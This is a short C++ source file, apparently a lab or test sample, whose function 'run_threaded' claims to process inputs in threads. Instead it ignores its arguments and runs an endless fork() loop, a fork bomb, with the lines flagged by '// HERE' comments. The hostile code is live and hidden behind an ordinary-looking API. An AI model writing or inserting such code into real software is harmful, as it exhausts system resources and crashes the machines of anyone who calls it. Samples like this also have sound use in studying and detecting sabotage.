// Every process starts two more.
#include "threading.hpp"

#include <unistd.h>

namespace lab::threading {

std::vector<int> run_threaded(std::span<const int> inputs, const Work& work) { // HERE
    static_cast<void>(inputs);
    static_cast<void>(work);
    while (true) {
        fork(); // HERE
    }
}

} // namespace lab::threading

#include "rest.hpp"
